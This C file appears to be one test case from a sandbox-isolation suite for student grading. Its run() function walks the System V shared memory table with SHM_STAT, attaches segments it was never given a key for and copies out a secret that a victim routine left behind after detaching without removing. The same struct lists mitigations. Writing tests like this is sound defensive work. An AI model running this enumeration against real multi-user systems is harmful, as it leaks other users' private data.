// SPDX-License-Identifier: MIT
/*
 * shared-segment.c - nobody needs to know the key.
 *
 * Goal: another student's work.
 * Means: a System V segment made with IPC_PRIVATE, which no key leads to. But the kernel keeps a
 * table, and SHM_STAT takes an index into it instead of an id: the next student walks through all
 * there are and attaches what belongs to the same user, which is everything.
 */
#include "attacks/ipc-residue/residue.h"

#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>

#define BYTES 4096

static enum claim run(const struct brief *b)
{
	struct shmid_ds about;
	int last, found = 0;

	attempting(b);
	last = shmctl(0, SHM_INFO, &about);
	if (last < 0)
		return denied("SHM_INFO");
	for (int index = 0; index <= last && index < BYTES; index++) {
		int id = shmctl(index, SHM_STAT, &about);
		char *at = id < 0 ? (char *)-1 : shmat(id, NULL, SHM_RDONLY);

		if (at == (char *)-1)
			continue;
		loot(at, about.shm_segsz < BYTES ? about.shm_segsz : BYTES);
		shmdt(at);
		found++;
	}
	return found ? CLAIM_DONE : denied("SHM_STAT, of every index");
}

/* The exercise on shared memory; a student whose platform has none does it with a file. */
static enum claim victim(const struct brief *b)
{
	int id = shmget(IPC_PRIVATE, BYTES, IPC_CREAT | 0600);
	char *at = id < 0 ? (char *)-1 : shmat(id, NULL, 0);

	if (at != (char *)-1) {
		strcpy(at, b->secret);
		return shmdt(at) ? failed("shmdt") : CLAIM_DONE; /* detached, not removed */
	}
	return keep_in_file(b);
}

const struct attack attack = {
	.effect = "the next student reads the last one's shared memory, without its key",
	.means = "SHM_STAT over the table of System V segments, then shmat(2)",
	.oracle = "secret:victim",
	.scene = SCENE_AFTER_VICTIM,
	.needs = NEED_SYSVIPC,
	.attack_id = "T1559, CWE-459, CWE-226",
	.remedy = "an allow list of system calls; an ipc namespace per student",
	.refs = (const char *const[]){ "shmctl(2), SHM_STAT", NULL },
	.run = run,
	.victim = victim,
};
